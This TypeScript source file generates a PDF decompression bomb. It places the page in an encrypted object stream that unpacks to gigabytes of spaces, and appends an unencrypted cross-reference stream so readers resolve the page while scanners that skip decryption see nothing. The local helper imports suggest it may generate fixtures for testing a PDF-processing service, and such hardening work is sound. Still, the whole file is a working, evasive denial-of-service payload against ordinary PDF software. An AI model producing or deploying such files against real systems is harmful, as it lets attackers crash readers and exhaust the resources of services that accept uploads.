// A file that opens without a password and is encrypted all the same. Its page lies in a stream of objects (ISO 32000-1 §7.5.7) that
// unpacks to gigabytes: whoever does not undo the encryption sees nothing of that, and whoever opens the file unpacks it.
import { constants, deflateRawSync } from 'node:zlib';
import { PdfName, PdfNumber, PdfStream } from '@libpdf/core';
import { altered, contractPdf } from './pdf.ts';

const PART = 64 * 1024 * 1024;
const PARTS_A_GIGABYTE = 16;

export async function lockedBomb(gigabytes: number): Promise<Uint8Array> {
  const file = await altered(await contractPdf({ pages: 1 }), (pdf) => {
    const entries = { Type: PdfName.of('ObjStm'), N: PdfNumber.of(1), First: PdfNumber.of(4), Filter: PdfName.of('FlateDecode') };
    pdf.getCatalog().set('Held', pdf.register(PdfStream.fromDict(entries, packed('1 0 ', gigabytes))));
    pdf.setProtection({ userPassword: '', ownerPassword: 'boss' });
  });
  return Buffer.concat([file, pageMoved(Buffer.from(file).toString('latin1'))]);
}

/** What follows a full flush does not look back, so that one packed part can stand for each that is like it (RFC 1951 §3.2). */
function packed(start: string, gigabytes: number): Buffer {
  const pack = (part: Buffer) => deflateRawSync(part, { finishFlush: constants.Z_FULL_FLUSH });
  const part = pack(Buffer.alloc(PART, ' '));
  const parts = Array.from({ length: gigabytes * PARTS_A_GIGABYTE }, () => part);
  return Buffer.concat([Buffer.from([0x78, 0x9c]), pack(Buffer.from(start)), ...parts, Buffer.from([0x03, 0x00])]);
}

/** A section that says only that the page is in the held stream (§7.5.8); such a table is never encrypted. */
function pageMoved(file: string): Buffer {
  const [page, held, size] = [/\/Kids\s*\[\s*(\d+)/, /\/Held (\d+)/, /\/Size (\d+)/].map((pattern) => Number(found(file, pattern)[1]));
  const kept = [/\/Root \d+ 0 R/, /\/Encrypt \d+ 0 R/, /\/ID\s*\[[^\]]*\]/].map((pattern) => found(file, pattern)[0]);
  const rows = Buffer.alloc(14);
  rows.writeUInt8(2, 0);
  rows.writeUInt32BE(held ?? 0, 1);
  rows.writeUInt8(1, 7);
  rows.writeUInt32BE(file.length, 8);
  const table = `/Type/XRef/Size ${(size ?? 0) + 1}/W[1 4 2]/Index[${page} 1 ${size} 1]/Prev ${found(file, /startxref\s+(\d+)/)[1]}`;
  return Buffer.concat([
    Buffer.from(`${size} 0 obj\n<<${table}${kept.join('')}/Length ${rows.length}>>\nstream\n`),
    rows,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${file.length}\n%%EOF\n`),
  ]);
}

function found(text: string, pattern: RegExp): RegExpExecArray {
  const match = pattern.exec(text);
  if (!match) throw new Error(`The file has nothing that reads like ${pattern.source}.`);
  return match;
}
